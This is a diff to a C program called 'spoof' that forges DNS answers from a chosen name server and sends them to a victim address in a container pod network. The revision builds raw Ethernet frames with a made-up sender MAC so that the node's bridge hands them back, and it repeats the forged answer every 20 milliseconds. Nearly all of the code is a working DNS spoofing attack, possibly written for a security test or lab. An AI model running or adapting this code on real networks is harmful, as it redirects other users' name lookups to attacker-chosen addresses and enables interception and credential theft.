@@ -1,35 +1,50 @@
 // SPDX-License-Identifier: Apache-2.0
 //
-// A neighbour in the pod answers in the name server's place: from a raw socket, or from an address that it binds freely.
-//   spoof raw|transparent SERVER NAME ADDRESS MILLISECONDS
-#define _GNU_SOURCE
+// Answers in the name server's place, to whoever asks at VICTIM: from a raw socket, or with a frame that leaves the pod and that
+// the node's bridge hands back.
+//   spoof raw|frame SERVER NAME ADDRESS MILLISECONDS VICTIM
 #include "dns.h"
+#include <linux/if_ether.h>
+#include <linux/if_packet.h>
+
+static void own_hardware(uint8_t *at)
+{
+	struct ifreq request = {0};
+	int fd = must(socket(AF_INET, SOCK_DGRAM, 0), "socket");
+
+	strcpy(request.ifr_name, way_out());
+	must(ioctl(fd, SIOCGIFHWADDR, &request), "hardware address");
+	memcpy(at, request.ifr_hwaddr.sa_data, ETH_ALEN);
+	close(fd);
+}
 
 int main(int argc, char **argv)
 {
-	struct sockaddr_in there = {.sin_family = AF_INET, .sin_port = htons(ASK_PORT)};
-	struct target server, target;
-	uint8_t answer[512], packet[600];
+	struct sockaddr_ll link = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_halen = ETH_ALEN};
+	struct target server, target, victim;
+	uint8_t answer[512], frame[700] = {0};
 	size_t bytes;
-	int fd, one = 1, is_raw;
+	int fd, is_raw;
 
-	if (argc != 6)
-		usage("spoof raw|transparent SERVER NAME ADDRESS MILLISECONDS");
+	if (argc != 7)
+		usage("spoof raw|frame SERVER NAME ADDRESS MILLISECONDS VICTIM");
 	server = target_of(argv[2], "53");
 	target = target_of(argv[4], "0");
-	there.sin_addr = own_v4();
+	victim = target_of(argv[6], "0");
 	is_raw = !strcmp(argv[1], "raw");
+	fd = must(is_raw ? socket(AF_INET, SOCK_RAW, IPPROTO_RAW) : socket(AF_PACKET, SOCK_RAW, 0), "socket");
+	own_hardware(link.sll_addr);
+	link.sll_ifindex = if_nametoindex(way_out());
+	memcpy(frame, link.sll_addr, ETH_ALEN);
+	frame[6] = 2; /* some sender: the bridge would take the pod's own address for a loop */
+	frame[12] = ETH_P_IP >> 8;
 	bytes = put_answer(answer, argv[3], v4(&target));
-	fd = must(is_raw ? socket(AF_INET, SOCK_RAW, IPPROTO_RAW) : socket(AF_INET, SOCK_DGRAM, 0), "socket");
-	if (!is_raw) {
-		must(setsockopt(fd, IPPROTO_IP, IP_TRANSPARENT, &one, sizeof(one)), "setsockopt");
-		must(bind(fd, to(&server), server.size), "bind");
-	} else {
-		bytes = put_datagram(packet, v4(&server), DNS_PORT, there.sin_addr, ASK_PORT, answer, bytes);
-		there.sin_port = 0;
-	}
+	bytes = put_datagram(frame + ETH_HLEN, v4(&server), DNS_PORT, v4(&victim), ASK_PORT, answer, bytes);
 	for (int left = atoi(argv[5]); left > 0; left -= 20) {
-		must(sendto(fd, is_raw ? packet : answer, bytes, 0, (struct sockaddr *)&there, sizeof(there)), "sendto");
+		if (is_raw)
+			must(sendto(fd, frame + ETH_HLEN, bytes, 0, to(&victim), victim.size), "sendto");
+		else
+			must(sendto(fd, frame, bytes + ETH_HLEN, 0, (struct sockaddr *)&link, sizeof(link)), "sendto");
 		usleep(20000);
 	}
 	return 0;
